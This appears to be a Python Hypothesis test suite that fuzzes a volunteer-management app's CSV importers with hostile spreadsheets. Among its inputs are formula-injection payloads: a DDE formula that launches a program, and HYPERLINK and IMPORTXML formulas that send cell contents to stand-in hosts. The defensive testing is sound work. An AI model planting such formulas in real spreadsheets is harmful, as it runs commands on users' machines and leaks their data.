"""Random and hostile spreadsheets: the imports never crash and never write in part.

Whatever the bytes of the file, checking it (the preview) returns a verdict, and importing it
either succeeds or raises :class:`BadInputError` leaving the base exactly as it was. A file the
preview accepts imports; a file it refuses does not; importing a file twice changes nothing the
second time (docs/formats.md). Error messages stay short however long the cells; no invisible or
control character reaches the base (newlines excepted, in notes); no expense line is worth zero.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from pea_desktop.domain.errors import BadInputError
from pea_desktop.services.importing import (
    check_activities,
    check_volunteers,
    import_activities,
    import_volunteers,
)
from pea_desktop.services.importing.activities import COLUMNS as ACTIVITY_COLUMNS
from pea_desktop.services.importing.csv_source import Columns, read_table
from pea_desktop.services.importing.volunteers import COLUMNS as VOLUNTEER_COLUMNS
from pea_desktop.store.database import Database, open_database
from tests.database_template import copy_template
from tests.services.import_helpers import snapshot

TODAY = date(2026, 11, 25)
SETTINGS = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

FORMULAS = [
    '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez ici")',
    "=1+1",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=IMPORTXML(CONCAT("http://x.invalid/?",A2);"//a")',
]
CONTROLS = st.text(
    alphabet=st.sampled_from(
        [chr(c) for c in range(0x20)] + ["\x7f", "\u0085", "\u2028", "\u202e", "\ufeff", "\u200b"]
    ),
    max_size=6,
)
HUGE = st.integers(min_value=1_000, max_value=120_000).map(lambda n: "é" * n)
NUMBERS = st.sampled_from(
    ["9" * 30, "9" * 5000, "1e999", "1E+30", "-0", "NaN", "²", "١٢", "0,0000001", "12,5", " 3 "]
)
# Characters a text cell may hold without making the file binary.
ODD_TEXT = st.text(
    alphabet=st.sampled_from(list("\t\x0c\x1b\x7f\u0085\u2028\u202e\ufeff\u200b\u00a0é€;,\"'")),
    max_size=8,
)
# Characters nobody sees, that copy-paste and exports leave inside otherwise good cells.
# Format characters vanish wherever they are; controls and line separators become spaces.
FORMAT_CHARACTERS = st.sampled_from(["\u202e", "\u200b", "\ufeff", "\u00ad", "\u2066"])
SPACED_CHARACTERS = st.sampled_from(["\u2028", "\x1b", "\x0b", "\x7f", "\u0085", "\t", "\x01"])
FREE_TEXT = st.one_of(st.sampled_from(FORMULAS), st.text(max_size=40), ODD_TEXT, HUGE)
HOSTILE = st.one_of(
    NUMBERS,
    st.text(max_size=40),
    st.sampled_from(FORMULAS),
    CONTROLS,
    HUGE,
    st.text(alphabet=';,"\n\r ', max_size=8),
)

ACTIVITY_VALUES: dict[str, st.SearchStrategy[str]] = {
    "type": st.sampled_from(["groupe", "visite", "temoignage", "Groupe de parole", "VISITE"]),
    "date": st.sampled_from(["14/03/2026", "2025-12-01", "01/01/2024", "25/11/2026"]),
    "antenne": st.sampled_from(["LYO", "lyo", "GRE", "Saint-Étienne"]),
    "benevoles": st.sampled_from(
        ["Amélie Dupré", "DUPRÉ Amélie", "Amélie Dupré, Jean Martin", "Zoé Lefèvre + Théo Roy"]
    ),
    "duree": st.sampled_from(["90", "1h30", "1:30", "2h", ""]),
    "lieu": st.sampled_from(["CSAPA Le Griffon", "Hôpital Nord", ""]),
    "participants": st.sampled_from(["9", "12", ""]),
    "nouveaux": st.sampled_from(["0", "2", ""]),
    "proches": st.sampled_from(["1", ""]),
    "public": st.sampled_from(["patients", "grand public", "Étudiants", ""]),
    "demandeur": st.sampled_from(["famille", "personne", "professionnel"]),
    "reference": st.sampled_from(["V-2026-014", "V-2025-001", ""]),
    "km": st.sampled_from(["12,5", "40", "0", ""]),
    "peage": st.sampled_from(["3,20", ""]),
    "parking": st.sampled_from(["2", ""]),
    "transport": st.sampled_from(["", "15,00"]),
    "repas": st.sampled_from(["", "12.50"]),
    "notes": st.sampled_from(["", "RAS"]),
}
VOLUNTEER_VALUES: dict[str, st.SearchStrategy[str]] = {
    "prenom": st.sampled_from(["Amélie", "Jean", "Zoé", "Marie-Hélène"]),
    "nom": st.sampled_from(["Dupré", "MARTIN", "Lefèvre", "N'Diaye"]),
    "antenne": st.sampled_from(["LYO", "GRE"]),
    "role": st.sampled_from(["bénévole", "pair-aidant", "Coordinatrice", ""]),
    "email": st.sampled_from(["amelie@exemple.fr", ""]),
    "telephone": st.sampled_from(["06 12 34 56 78", "+33 6 12 34 56 78", ""]),
    "adresse": st.sampled_from(["12 rue de l'Église", '=HYPERLINK("x")', ""]),
    "code_postal": st.sampled_from(["69003", ""]),
    "ville": st.sampled_from(["Lyon", "Saint-Étienne", ""]),
    "vehicule": st.sampled_from(["voiture", "moto", "aucun", ""]),
    "cv": st.sampled_from(["5", "7", ""]),
    "electrique": st.sampled_from(["oui", "non", ""]),
}


def header_variants(name: str) -> st.SearchStrategy[str]:
    accented = {
        "benevoles": "Bénévoles",
        "duree": "Durée",
        "prenom": "Prénom",
        "electrique": "Électrique",
    }
    return st.sampled_from([name, name.upper(), f" {name.title()} ", accented.get(name, name)])


@st.composite
def sprinkled(draw: st.DrawFn, value: str) -> str:
    """``value`` with invisible characters inside and control characters around it."""
    for _ in range(draw(st.integers(0, 3))):
        at = draw(st.integers(0, len(value)))
        value = value[:at] + draw(FORMAT_CHARACTERS) + value[at:]
    before = draw(st.sampled_from(["", draw(SPACED_CHARACTERS)]))
    after = draw(st.sampled_from(["", draw(SPACED_CHARACTERS)]))
    return before + value + after


@st.composite
def spreadsheets(
    draw: st.DrawFn, values: dict[str, st.SearchStrategy[str]], free_text: tuple[str, ...]
) -> bytes:
    """A CSV file, clean or hostile in its cells, its structure or its bytes."""
    hostility = draw(st.sampled_from(["clean", "cells", "invisible", "structure", "bytes"]))
    required = list(values)[:4]
    names = draw(st.lists(st.sampled_from(list(values)), unique=True, min_size=1))
    # In "cells" files, a few columns (any of them, numbers included) get hostile values.
    targets = draw(st.lists(st.sampled_from(list(values)), unique=True, min_size=1, max_size=3))
    if hostility != "structure":
        names = list(dict.fromkeys([*required, *names, *targets]))
    headers = [draw(header_variants(n)) for n in names]
    if hostility == "structure":
        if draw(st.booleans()):
            headers.append(draw(st.sampled_from(headers)))  # a duplicated header
        if draw(st.booleans()):
            headers.insert(draw(st.integers(0, len(headers))), draw(HOSTILE))
    rows = []
    for _ in range(draw(st.integers(0 if hostility == "structure" else 1, 6))):
        row = []
        for name in names:
            if name in free_text:  # any text is welcome there: formulas, huge, odd characters
                row.append(draw(st.one_of(values[name], FREE_TEXT)))
            elif hostility == "cells" and name in targets and draw(st.booleans()):
                row.append(draw(HOSTILE))
            elif hostility == "invisible" and draw(st.booleans()):
                row.append(draw(sprinkled(draw(values[name]))))
            else:
                row.append(draw(values[name]))
        if hostility == "structure" and draw(st.booleans()):
            row = row[: draw(st.integers(0, len(row)))] + draw(st.lists(HOSTILE, max_size=3))
        rows.append(row)
    separator = draw(st.sampled_from([";", ","]))
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    if hostility == "clean" or draw(st.booleans()):
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=separator, lineterminator=newline).writerows([headers, *rows])
        text = buffer.getvalue()
    else:  # written by hand, without quoting: separators and quotes inside cells break lines
        text = newline.join(separator.join(r) for r in [headers, *rows])
    encodings = ["utf-8", "utf-8-sig", "cp1252"]
    if hostility == "bytes":
        encodings += ["latin-1", "utf-16", "utf-32"]
    data = text.encode(draw(st.sampled_from(encodings)), errors="replace")
    if hostility == "bytes" and data and draw(st.booleans()):  # a changed byte somewhere
        at = draw(st.integers(0, len(data) - 1))
        data = data[:at] + bytes([draw(st.integers(0, 255))]) + data[at + 1 :]
    return data


Importer = Callable[[Database, Path], Any]
Checker = Callable[[Path], Any]
KINDS: dict[str, tuple[Importer, Checker, dict[str, st.SearchStrategy[str]], tuple[str, ...]]] = {
    "activities": (
        lambda db, path: import_activities(db, path, today=TODAY),
        lambda path: check_activities(path, today=TODAY),
        ACTIVITY_VALUES,
        ("lieu", "notes"),
    ),
    "volunteers": (
        import_volunteers,
        check_volunteers,
        VOLUNTEER_VALUES,
        ("adresse", "ville", "telephone"),
    ),
}


COLUMNS: dict[str, Columns] = {"activities": ACTIVITY_COLUMNS, "volunteers": VOLUNTEER_COLUMNS}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory, migrated_template: Path) -> Iterator[Database]:
    """One base for all the examples: each checks its own effect against a snapshot."""
    path = tmp_path_factory.mktemp("hypothesis") / "pea.sqlite3"
    db = open_database(copy_template(migrated_template, path))
    yield db
    db.close()


MAX_PROBLEM = 300  # characters in one listed problem
MAX_MESSAGE = 2000  # characters in the message about the file as a whole
STORED_TEXT = {
    "activity": ("place", "reference", "theme"),
    "volunteer": ("first_name", "last_name", "email", "phone", "address", "postal_code", "city"),
    "antenna": ("code", "name"),
}
HIDDEN = frozenset(("Cc", "Cf", "Zl", "Zp"))


def hidden_characters(text: str) -> set[str]:
    return {c for c in text if unicodedata.category(c) in HIDDEN}


def check_what_was_stored(db: Database) -> None:
    """No hidden character in names, places, codes...; newlines only in notes; no zero expense."""
    with db.engine.connect() as connection:
        for table, columns in STORED_TEXT.items():
            for row in connection.exec_driver_sql(f"SELECT {', '.join(columns)} FROM {table}"):
                for column, value in zip(columns, row, strict=True):
                    found = hidden_characters(value or "")
                    assert not found, f"{table}.{column} holds {found!r}: {value!r}"
        for (notes,) in connection.exec_driver_sql("SELECT notes FROM activity"):
            assert hidden_characters(notes) <= {"\n"}, repr(notes)
            assert notes == notes.strip(), repr(notes)
        zero = "SELECT count(*) FROM expense_line WHERE coalesce(km, 0) + coalesce(amount, 0) = 0"
        assert connection.exec_driver_sql(zero).scalar() == 0, "an expense line worth nothing"


def import_and_check(db: Database, path: Path, data: bytes, kind: str) -> None:
    importer, checker, _values, _free = KINDS[kind]
    path.write_bytes(data)
    verdict = checker(path)
    before = snapshot(db)
    try:
        report = importer(db, path)
    except BadInputError as error:
        assert snapshot(db) == before, "a refused import wrote something"
        assert error.message and all(isinstance(p, str) for p in error.problems)
        assert not verdict.ok, f"the preview accepted a file the import refused: {error}"
        assert len(error.message) < MAX_MESSAGE, error.message[:500]
        assert len(verdict.message) < MAX_MESSAGE, verdict.message[:500]
        for problem in [*error.problems, *verdict.problems]:
            assert len(problem) < MAX_PROBLEM, problem[:500]
        event(f"refused: {error.message.split(':')[0][:60]}")
        return
    except Exception:
        assert snapshot(db) == before, "a crashed import wrote something"
        raise
    assert verdict.ok, f"the preview refused a file the import accepted: {verdict.message}"
    assert report.lines_read >= 1
    assert len(report.summary()) < MAX_MESSAGE
    check_what_was_stored(db)
    event("imported")
    after_first = snapshot(db)
    importer(db, path)
    assert snapshot(db) == after_first, "importing the same file twice changed the base"


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_spreadsheets_never_crash_nor_write_in_part(
    kind: str, base: Database, tmp_path: Path
) -> None:
    @SETTINGS
    @given(data=spreadsheets(KINDS[kind][2], KINDS[kind][3]))
    def run(data: bytes) -> None:
        import_and_check(base, tmp_path / "import.csv", data, kind)

    run()


@pytest.mark.parametrize("kind", KINDS)
def test_random_bytes_never_crash(kind: str, base: Database, tmp_path: Path) -> None:
    @settings(SETTINGS, max_examples=80)
    @given(data=st.binary(max_size=400))
    def run(data: bytes) -> None:
        import_and_check(base, tmp_path / "import.csv", data, kind)

    run()


NUMBER_TEXT = st.one_of(
    NUMBERS,
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.text(alphabet="0123456789²³¹½٣٤०१₀①,.-+eE€ \u00a0\u202f", min_size=1, max_size=12),
)
NUMBER_COLUMNS = {
    "activities": (
        "type;date;antenne;benevoles;lieu;{column}",
        "groupe;14/03/2026;LYO;Amélie Dupré;Salle {n};{value}",
        ("participants", "nouveaux", "proches", "duree", "km", "peage", "parking", "repas"),
    ),
    "volunteers": (
        "prenom;nom;antenne;{column}",
        "Amélie;Dupré{n};LYO;{value}",
        ("cv",),
    ),
}


@pytest.mark.parametrize("kind", KINDS)
def test_any_text_in_a_number_column_is_accepted_or_refused(
    kind: str, base: Database, tmp_path: Path
) -> None:
    header, line, columns = NUMBER_COLUMNS[kind]

    @settings(SETTINGS, max_examples=150)
    @given(column=st.sampled_from(columns), value=NUMBER_TEXT, n=st.integers(0, 10**6))
    def run(column: str, value: str, n: int) -> None:
        text = header.format(column=column) + "\n" + line.format(n=n, value=value) + "\n"
        import_and_check(base, tmp_path / "nombres.csv", text.encode("utf-8"), kind)

    run()


@pytest.mark.parametrize("kind", KINDS)
def test_invisible_characters_change_nothing(kind: str, tmp_path: Path) -> None:
    """A file read with invisible characters slipped into its cells reads as the clean one."""
    _importer, checker, values, _free = KINDS[kind]
    columns = COLUMNS[kind]

    @settings(SETTINGS, max_examples=80)
    @given(data=st.data())
    def run(data: st.DataObject) -> None:
        names = list(values)
        rows = [[data.draw(values[n]) for n in names] for _ in range(data.draw(st.integers(1, 4)))]
        dirty = [[data.draw(sprinkled(cell)) for cell in row] for row in rows]
        paths = []
        for name, table in (("propre.csv", rows), ("sale.csv", dirty)):
            buffer = io.StringIO()
            csv.writer(buffer, delimiter=";").writerows([names, *table])
            paths.append(tmp_path / name)
            paths[-1].write_bytes(buffer.getvalue().encode("utf-8"))
        clean, sprinkled_table = (read_table(path, columns) for path in paths)
        assert sprinkled_table.rows == clean.rows
        assert checker(paths[1]).problems == checker(paths[0]).problems
        assert sprinkled_table.cleaned_cells == sum(
            cell != d
            for row, drow in zip(rows, dirty, strict=True)
            for cell, d in zip(row, drow, strict=True)
        )

    run()
